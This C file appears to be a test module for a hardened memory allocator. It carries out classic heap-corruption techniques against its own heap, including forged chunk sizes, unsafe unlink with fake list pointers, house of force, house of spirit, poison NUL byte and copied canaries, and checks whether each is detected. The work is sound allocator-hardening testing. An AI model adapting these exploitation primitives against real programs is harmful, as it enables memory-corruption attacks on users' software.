/* Techniques that change what an allocator believes about a live chunk: its size, its neighbours, its list, its arena. */
#define _GNU_SOURCE
#include "driver.h"

#include <errno.h>
#include <malloc.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>

static _Alignas(16) uint64_t target[64];

static char *chunk(size_t size) {
    char *p = malloc(size);
    fill(p, 0x53, size);
    return p;
}

static uint64_t header(const char *p) {
    uint64_t bits;
    memcpy(&bits, p - 8, 8);
    return bits;
}

static void write_header(char *p, uint64_t bits) {
    note_subject(p);
    at_the_bug();
    if (header(p) == bits) moot();
    memcpy(p - 8, &bits, 8);
    past_the_bug();
}

/* a: what is then done with the chunk */
enum then { FREE, REALLOC_UP, REALLOC_DOWN, USABLE_SIZE, CHECK_BY_FREE_OF_THE_ONE_IN_FRONT };

static void and_then(struct trial t, char *p) {
    if (t.a == FREE) free(p);
    if (t.a == REALLOC_UP) p = realloc(p, t.size * 2 + 64);
    if (t.a == REALLOC_DOWN) p = realloc(p, t.size / 2 + 1);
    if (t.a == USABLE_SIZE && malloc_usable_size(p) > t.size) broken("malloc_usable_size believed a forged size");
    if (t.bug) missed();
}

/* The size field of glibc: larger, so that the chunk would overlap the ones behind. c: flags (1 previous in use, 2 its own
 * mapping, 4 another arena) */
static void glibc_size(struct trial t) {
    char *p = chunk(t.size), *behind = chunk(t.size);
    if (t.bug) write_header(p, ((t.size + 24) & ~(size_t)15) * 3 | (uint64_t)t.c);
    and_then(t, p);
    free(behind);
}

/* The size in a header of this library: larger, the rest as it was; the checksum cannot be. b: what the size becomes */
enum { LARGER_BY_ONE = 1, WHOLE_CLASS, LARGEST };

static void own_size(struct trial t) {
    settle(t.size);
    char *p = chunk(t.size);
    uint64_t bits = header(p), size = bits >> 8 & 0xfffff;
    if (t.b == LARGER_BY_ONE) size += 1;
    if (t.b == WHOLE_CLASS) size = size + 15 & ~15ul | 8;
    if (t.b == LARGEST) size = 0xfffff;
    if (t.bug) write_header(p, bits & ~0xfffff00ul | size << 8);
    and_then(t, p);
}

/* Each byte of the header in turn becomes another one: an overflow of one byte at a chosen place. */
static void one_byte(struct trial t) {
    settle(t.size);
    char *p = chunk(t.size);
    uint32_t place = t.repetition % 8;
    if (t.bug) write_header(p, header(p) ^ (uint64_t)(1 + dice(255)) << place * 8);
    and_then(t, p);
}

/* Eight bytes at any place that reaches the bytes next to the program's: header, slack or, without slack, the header behind. */
static void eight_bytes_anywhere(struct trial t) {
    settle(t.size);
    char *p = chunk(t.size);
    note_subject(p);
    if (t.bug) {
        long behind = (long)t.size - 7 + (long)dice(8), front = -8 + (long)dice(8);
        volatile char *place = p + (dice(2) ? behind : front);
        char bytes[8];
        for (int i = 0; i < 8; i++) bytes[i] = (char)dice(256);
        at_the_bug();
        bool changed = false;
        for (int i = 0; i < 8; i++) {
            bool ours = place + i >= p && place + i < p + t.size;
            if (!ours && place[i] != bytes[i]) changed = true;
        }
        if (!changed) moot();
        for (int i = 0; i < 8; i++) place[i] = bytes[i];
        past_the_bug();
    }
    free(p);
    if (t.bug) missed();
}

/* A fake free chunk at the end of one chunk, and the size field of the next says that what is in front of it is free: glibc
 * would take the fake one off its list when the next is freed, and write to where its links point. c: whether the next
 * one's header is overwritten whole or only by a NUL */
enum { WHOLE, A_NUL };

static void unsafe_unlink(struct trial t) {
    char *chunks[2];
    neighbours(t.size, chunks, 2);
    uint64_t *fake = (uint64_t *)chunks[0];
    if (t.bug) {
        note_subject(chunks[1]);
        at_the_bug();
        if (t.size >= 32) {
            fake[0] = 0;
            fake[1] = t.size & ~(size_t)15;
            fake[2] = (uint64_t)(target + 5) - 24;
            fake[3] = (uint64_t)(target + 5) - 16;
        }
        /* All from the end of the first chunk to the second one's: size of the previous one, and flags. */
        char *end = chunks[0] + t.size;
        for (; end < chunks[1] - 8; end += 8) memcpy(end, &(uint64_t){t.size & ~(size_t)15}, 8);
        if (t.c == WHOLE) memcpy(chunks[1] - 8, &(uint64_t){(t.size + 24) & ~(size_t)15}, 8);
        else *(volatile char *)(chunks[1] - 8) = 0;
        past_the_bug();
    }
    free(chunks[t.b]);
    for (int i = 0; i < 64; i++)
        if (target[i]) broken("unlink wrote where the attacker pointed");
    if (t.bug) missed();
    free(chunks[1 - t.b]);
}

/* The size of what is left of the heap becomes the greatest there is, then a request wraps around to the target. */
static void house_of_force(struct trial t) {
    char *p = chunk(t.size);
    note_subject(p);
    if (t.bug) {
        at_the_bug();
        for (int i = 0; i < 32; i++) ((volatile char *)p)[t.size + i] = (char)0xff;
        past_the_bug();
        char *wrapped = malloc((size_t)((char *)target - p) - 64);
        if (wrapped) {
            char *next = malloc(t.size);
            if ((uintptr_t)next >= (uintptr_t)target - 256 && (uintptr_t)next < (uintptr_t)(target + 64))
                broken("malloc returned the attacker's target");
        }
    }
    free(p);
    if (t.bug) missed();
}

/* A chunk that never was: on the stack, dressed for glibc with sizes before and behind, and for this library with a true
 * header. c: how */
enum { GLIBC, TRUE_HEADER };

static void house_of_spirit(struct trial t) {
    _Alignas(16) uint64_t stack[4096] = {0};
    char *p = chunk(t.size);
    size_t words = (t.size + 24 & ~(size_t)15) / 8;
    if (words > 4000) words = 4000;
    stack[1] = t.c == GLIBC ? words * 8 : header(p);
    stack[1 + words] = 0x1000;
    note_subject(&stack[2]);
    if (t.bug) {
        at_the_bug();
        free(&stack[2]);
        missed();
    }
    free(p);
}

/* The header of a chunk of quite another class, or of one that has a mapping of its own. b: by how much larger */
static void of_another_class(struct trial t) {
    char *p = chunk(t.size), *other = chunk(t.size + (size_t)t.b);
    if (t.bug) write_header(p, header(other));
    and_then(t, p);
    free(other);
}

/* A header that is true in its place, from an earlier life of the same slot: written back while the slot is free, or has
 * another owner of the same size, so that it says what is so anyway. A second free must be found all the same. */
static void leaked_header_of_the_same_place(struct trial t) {
    char *p = chunk(t.size);
    uint64_t leaked = header(p);
    free(p);
    if (!t.bug) return;
    write_header(p, leaked);
    at_the_bug();
    free(p);
    missed();
}

/* The same in a later life with another size. It is a true header, and believed. What it gains must stay within the slot:
 * nothing of what belongs to others is reached, copied or handed out. Ends by a report or with nothing to see. */
static void leaked_header_of_a_larger_chunk(struct trial t) {
    size_t smaller = t.size - 7;
    char *p = chunk(t.size);
    uint64_t leaked = header(p);
    free(p);
    char *again = NULL;
    for (int i = 0; i < 200000 && again != p; i++) {
        if (again) free(again);
        again = malloc(smaller);
    }
    if (again != p) moot();
    char *behind = chunk(smaller);
    memcpy(p - 8, &leaked, 8);
    if (malloc_usable_size(p) > t.size) broken("more than the slot ever had");
    free(p);
    for (size_t i = 0; i < enough(t.size, 64 << 20, 1000, 20000); i++) {
        char *q = malloc(smaller);
        if (q < behind + smaller && behind < q + smaller) broken("two chunks overlap");
        fill(q, 0x41, smaller);
        if (!only(behind, 0x53, smaller)) broken("another chunk was written to");
        free(q);
    }
}

/* The canary of another chunk in place of this one's: hardened_malloc has one for all the chunks of a slab. */
static void canary_of_another_chunk(struct trial t) {
    size_t room = stride_of(t.size) - 8 - t.size;
    if (room == 0) moot();
    char *p = chunk(t.size), *other = chunk(t.size);
    note_subject(p);
    if (t.bug) {
        at_the_bug();
        if (memcmp(p + t.size, other + t.size, room) == 0) moot();
        memcpy(p + t.size, other + t.size, room);
        past_the_bug();
    }
    free(p);
    if (t.bug) missed();
    free(other);
}

const struct attack attacks[] = {
    {"size_then_free", glibc_size, FREE, 0, 1},
    {"size_then_realloc", glibc_size, REALLOC_UP, 0, 1},
    {"size_then_usable_size", glibc_size, USABLE_SIZE, 0, 1},
    {"size_of_a_mapping_then_free", glibc_size, FREE, 0, 2},
    {"house_of_mind", glibc_size, FREE, 0, 5},
    {"own_size_by_one_then_free", own_size, FREE, LARGER_BY_ONE},
    {"own_size_to_the_class_then_free", own_size, FREE, WHOLE_CLASS},
    {"own_size_to_the_largest_then_free", own_size, FREE, LARGEST},
    {"own_size_to_the_largest_then_realloc", own_size, REALLOC_UP, LARGEST},
    {"own_size_to_the_largest_then_shrink", own_size, REALLOC_DOWN, LARGEST},
    {"own_size_to_the_largest_then_usable_size", own_size, USABLE_SIZE, LARGEST},
    {"one_byte_of_the_header", one_byte, FREE},
    {"eight_bytes_anywhere", eight_bytes_anywhere},
    {"unsafe_unlink", unsafe_unlink, 0, 1, WHOLE},
    {"unsafe_unlink_seen_from_below", unsafe_unlink, 0, 0, WHOLE},
    {"house_of_einherjar", unsafe_unlink, 0, 1, A_NUL},
    {"poison_nul_byte", unsafe_unlink, 0, 0, A_NUL},
    {"house_of_force", house_of_force},
    {"house_of_spirit", house_of_spirit, 0, 0, GLIBC},
    {"house_of_spirit_with_a_true_header", house_of_spirit, 0, 0, TRUE_HEADER},
    {"class_confusion", of_another_class, FREE, 64},
    {"class_confusion_then_realloc", of_another_class, REALLOC_UP, 64},
    {"class_confusion_then_usable_size", of_another_class, USABLE_SIZE, 64},
    {"header_of_a_large_chunk", of_another_class, FREE, 300000},
    {"leaked_header_of_the_same_place", leaked_header_of_the_same_place},
    {"leaked_header_of_a_larger_chunk", leaked_header_of_a_larger_chunk},
    {"canary_of_another_chunk", canary_of_another_chunk},
    {0},
};
